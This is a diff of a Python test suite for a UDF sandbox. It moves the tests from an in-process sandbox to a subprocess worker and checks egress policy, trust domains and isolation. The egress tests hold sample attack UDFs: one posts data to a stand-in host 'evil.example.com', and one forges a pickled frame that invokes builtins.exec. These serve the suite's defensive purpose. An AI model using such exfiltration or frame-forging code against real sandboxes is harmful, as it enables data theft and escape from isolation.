@@ -13,24 +13,22 @@ from repro.engine.udf import udf
 from repro.errors import (
     EgressDenied,
     HostFilesystemDenied,
+    SandboxDied,
     SandboxError,
     SandboxPolicyViolation,
     TrustDomainViolation,
     UserCodeError,
 )
-from repro.sandbox import (
-    ClusterManager,
-    Dispatcher,
-    InProcessSandbox,
-    SandboxedUDFRuntime,
-    SandboxPolicy,
-    SubprocessSandbox,
-)
+from repro.platform import Workspace
 from repro.sandbox import net
 from repro.sandbox.cluster_manager import (
     DEFAULT_INTERPRETER_START_SECONDS,
     DEFAULT_PROVISION_SECONDS,
+    ClusterManager,
 )
+from repro.sandbox.dispatcher import Dispatcher, SandboxedUDFRuntime
+from repro.sandbox.policy import SandboxPolicy
+from repro.sandbox.subprocess_sandbox import SubprocessSandbox
 
 
 @udf("int")
@@ -42,63 +40,22 @@ ALICE_ADD = add.with_owner("alice")
 BOB_ADD = add.with_owner("bob")
 
 
-class TestInProcessSandbox:
-    def test_invoke(self):
-        sandbox = InProcessSandbox("alice")
-        assert sandbox.invoke(ALICE_ADD, [[1, 2], [10, 20]]) == [11, 22]
+@pytest.fixture
+def alice_box():
+    sandbox = SubprocessSandbox("alice")
+    yield sandbox
+    sandbox.close()
 
-    def test_serialization_boundary_is_real(self):
-        """Mutations inside the sandbox never reach the caller's objects."""
 
-        @udf("int")
-        def mutate(xs):
-            xs.append(999)
-            return len(xs)
-
-        payload = [[1, 2]]
-        arg_column = [payload[0]]
-        sandbox = InProcessSandbox("alice")
-        sandbox.invoke(mutate.with_owner("alice"), [arg_column])
-        assert payload[0] == [1, 2], "caller data must be isolated by copy"
-
-    def test_trust_domain_enforced(self):
-        sandbox = InProcessSandbox("alice")
-        with pytest.raises(TrustDomainViolation):
-            sandbox.invoke(BOB_ADD, [[1], [2]])
-
-    def test_fused_invocation_single_roundtrip(self):
-        sandbox = InProcessSandbox("alice")
-        results = sandbox.invoke_many(
-            [(1, ALICE_ADD, [[1], [2]]), (2, ALICE_ADD, [[5], [5]])]
-        )
-        assert results == {1: [3], 2: [10]}
-        assert sandbox.stats.invocations == 1
-        assert sandbox.stats.fused_invocations == 1
-
-    def test_closed_sandbox_rejects(self):
-        sandbox = InProcessSandbox("alice")
-        sandbox.close()
-        with pytest.raises(SandboxError):
-            sandbox.invoke(ALICE_ADD, [[1], [2]])
-
-    def test_user_error_wrapped(self):
-        @udf("int")
-        def boom(x):
-            raise ValueError("bad input")
-
-        sandbox = InProcessSandbox("alice")
-        with pytest.raises(UserCodeError, match="bad input"):
-            sandbox.invoke(boom.with_owner("alice"), [[1]])
-
-    def test_bytes_accounted(self):
-        sandbox = InProcessSandbox("alice")
-        sandbox.invoke(ALICE_ADD, [[1] * 100, [2] * 100])
-        assert sandbox.stats.bytes_in > 0
-        assert sandbox.stats.bytes_out > 0
-        assert sandbox.stats.rows_in == 100
+def _sandbox(policy):
+    """A sandbox that ``sandbox.close()`` must stop (tests own their pipes)."""
+    return SubprocessSandbox("alice", policy)
 
 
 class TestEgressControl:
+    """Egress from the worker comes up the pipe; this side applies the
+    sandbox's policy and runs only what it allows."""
+
     def setup_method(self):
         net.register_service("api.example.com", lambda path, payload: {"ok": path})
 
@@ -113,14 +70,20 @@ class TestEgressControl:
         return fetch.with_owner("alice")
 
     def test_locked_down_denies(self):
-        sandbox = InProcessSandbox("alice", SandboxPolicy())
-        with pytest.raises(EgressDenied):
-            sandbox.invoke(self._fetch_udf(), [[1]])
+        sandbox = _sandbox(SandboxPolicy())
+        try:
+            with pytest.raises(EgressDenied):
+                sandbox.invoke(self._fetch_udf(), [[1]])
+        finally:
+            sandbox.close()
 
     def test_allowlisted_host_allowed(self):
         policy = SandboxPolicy().with_egress("api.example.com")
-        sandbox = InProcessSandbox("alice", policy)
-        assert sandbox.invoke(self._fetch_udf(), [[1]]) == ["/item/1"]
+        sandbox = _sandbox(policy)
+        try:
+            assert sandbox.invoke(self._fetch_udf(), [[1]]) == ["/item/1"]
+        finally:
+            sandbox.close()
 
     def test_other_host_still_denied(self):
         net.register_service("evil.example.com", lambda p, b: "secrets")
@@ -130,19 +93,107 @@ class TestEgressControl:
             return net.http_post("http://evil.example.com/drop", payload=x)
 
         policy = SandboxPolicy().with_egress("api.example.com")
-        sandbox = InProcessSandbox("alice", policy)
+        sandbox = _sandbox(policy)
         try:
             with pytest.raises(EgressDenied):
                 sandbox.invoke(exfiltrate.with_owner("alice"), [["data"]])
         finally:
+            sandbox.close()
             net.unregister_service("evil.example.com")
 
     def test_trusted_code_outside_sandbox_unrestricted(self):
         # Driver-side engine code is not subject to UDF egress rules.
         assert net.http_get("http://api.example.com/x") == {"ok": "/x"}
 
+    def test_the_driver_decides_even_when_user_code_skips_net(self):
+        """A UDF that sends an egress frame itself still meets the policy."""
+        calls = []
+        net.register_service("api.example.com", lambda path, payload: calls.append(path))
+
+        @udf("string")
+        def direct(x):
+            import __main__
+
+            status, _ = __main__.SANDBOX_BROKER.call("http", ("http://api.example.com/x", x))
+            return status
+
+        sandbox = _sandbox(SandboxPolicy())
+        try:
+            assert sandbox.invoke(direct.with_owner("alice"), [["data"]]) == ["denied"]
+            assert calls == []
+        finally:
+            sandbox.close()
+
+    def test_a_denial_of_unknown_kind_kills_the_sandbox(self):
+        """Denial kinds come from a fixed table; any other ends the stream."""
+
+        @udf("string")
+        def forge(x):
+            import os
+            import pickle
+            import struct
+
+            body = pickle.dumps(("denied", ("builtins.exec", "print(1)")))
+            os.write(1, struct.pack(">I", len(body)) + body)
+            return x
+
+        sandbox = _sandbox(SandboxPolicy())
+        try:
+            with pytest.raises(SandboxDied) as excinfo:
+                sandbox.invoke(forge.with_owner("alice"), [["data"]])
+            assert excinfo.value.delivered is True
+        finally:
+            sandbox.close()
+
 
 class TestSubprocessSandbox:
+    def test_invoke(self, alice_box):
+        assert alice_box.invoke(ALICE_ADD, [[1, 2], [10, 20]]) == [11, 22]
+
+    def test_serialization_boundary_is_real(self, alice_box):
+        """Mutations inside the sandbox never reach the caller's objects."""
+
+        @udf("int")
+        def mutate(xs):
+            xs.append(999)
+            return len(xs)
+
+        payload = [[1, 2]]
+        arg_column = [payload[0]]
+        alice_box.invoke(mutate.with_owner("alice"), [arg_column])
+        assert payload[0] == [1, 2], "caller data must be isolated by copy"
+
+    def test_trust_domain_enforced(self, alice_box):
+        with pytest.raises(TrustDomainViolation):
+            alice_box.invoke(BOB_ADD, [[1], [2]])
+
+    def test_fused_invocation_single_roundtrip(self, alice_box):
+        results = alice_box.invoke_many(
+            [(1, ALICE_ADD, [[1], [2]]), (2, ALICE_ADD, [[5], [5]])]
+        )
+        assert results == {1: [3], 2: [10]}
+        assert alice_box.stats.invocations == 1
+        assert alice_box.stats.fused_invocations == 1
+
+    def test_closed_sandbox_rejects(self, alice_box):
+        alice_box.close()
+        with pytest.raises(SandboxError):
+            alice_box.invoke(ALICE_ADD, [[1], [2]])
+
+    def test_user_error_wrapped(self, alice_box):
+        @udf("int")
+        def boom(x):
+            raise ValueError("bad input")
+
+        with pytest.raises(UserCodeError, match="bad input"):
+            alice_box.invoke(boom.with_owner("alice"), [[1]])
+
+    def test_bytes_accounted(self, alice_box):
+        alice_box.invoke(ALICE_ADD, [[1] * 100, [2] * 100])
+        assert alice_box.stats.bytes_in > 0
+        assert alice_box.stats.bytes_out > 0
+        assert alice_box.stats.rows_in == 100
+
     def test_invoke_real_process(self):
         sandbox = SubprocessSandbox("alice")
         try:
@@ -215,7 +266,7 @@ class TestSubprocessSandbox:
 
         boost_udf = client_udf("float")(boost)
         tag_udf = client_udf("string")(tag)
-        ws = Workspace(sandbox_backend="subprocess")
+        ws = Workspace()
         try:
             ws.add_user("admin", admin=True)
             ws.catalog.create_catalog("main", owner="admin")
@@ -270,8 +321,10 @@ class TestClusterManager:
         assert s2.closed
 
     def test_unknown_backend(self):
+        # The one backend is the subprocess worker; the workspace still
+        # validates the name it accepts for the frozen e2e fixture.
         with pytest.raises(SandboxError):
-            ClusterManager(backend="kvm")
+            Workspace(sandbox_backend="kvm")
 
     def test_default_policy_applied(self):
         manager = ClusterManager(
@@ -516,48 +569,55 @@ DOUBLE = udf("int")(_double).with_owner("alice")
 def _by_value_udfs():
     """Nested functions ship by value — installing them imports nothing."""
 
-    @udf("string")
     def first(*args):
         return args[0]
 
-    @udf("string")
     def shape(*args):
         return "|".join(f"{type(a).__name__}:{a!r}" for a in args)
 
-    @udf("string")
     def loaded_repro_modules(_x):
         import sys
 
         return sorted(m for m in sys.modules if m.startswith("repro"))
 
-    return tuple(
-        u.with_owner("alice") for u in (first, shape, loaded_repro_modules)
-    )
+    return first, shape, loaded_repro_modules
 
 
-FIRST, SHAPE, LOADED_REPRO_MODULES = _by_value_udfs()
+_first, _shape, _loaded_repro_modules = _by_value_udfs()
+FIRST, SHAPE, LOADED_REPRO_MODULES = (
+    udf("string")(f).with_owner("alice")
+    for f in (_first, _shape, _loaded_repro_modules)
+)
 
 
 @pytest.fixture(scope="class")
-def boundary_pair():
-    subprocess_sandbox = SubprocessSandbox("alice")
-    yield subprocess_sandbox, InProcessSandbox("alice")
-    subprocess_sandbox.close()
+def boundary_sandbox():
+    sandbox = SubprocessSandbox("alice")
+    yield sandbox
+    sandbox.close()
+
+
+def _apply(func, columns):
+    """The reference: the test's own function applied row-wise in-process."""
+    return [func(*row) for row in zip(*columns)]
 
 
 class TestSandboxBoundary:
     @pytest.mark.parametrize("fused", [False, True], ids=["invoke", "invoke_many"])
     @given(columns=_columns())
     @settings(max_examples=30, deadline=None)
-    def test_subprocess_matches_inprocess(self, boundary_pair, fused, columns):
+    def test_subprocess_matches_inprocess(self, boundary_sandbox, fused, columns):
         """NULLs, big ints, floats, strings, bytes and mixed columns alike."""
-        real, reference = boundary_pair
         if fused:
             calls = [(3, FIRST, columns), (5, SHAPE, columns), (8, SHAPE, columns[::-1])]
-            assert real.invoke_many(calls) == reference.invoke_many(calls)
+            assert boundary_sandbox.invoke_many(calls) == {
+                3: _apply(_first, columns),
+                5: _apply(_shape, columns),
+                8: _apply(_shape, columns[::-1]),
+            }
         else:
-            for udf_obj in (FIRST, SHAPE):
-                assert real.invoke(udf_obj, columns) == reference.invoke(udf_obj, columns)
+            for udf_obj, func in ((FIRST, _first), (SHAPE, _shape)):
+                assert boundary_sandbox.invoke(udf_obj, columns) == _apply(func, columns)
 
     def test_batches_cross_as_pickle_frames_and_no_shared_memory(self):
         shm_dir = Path("/dev/shm")
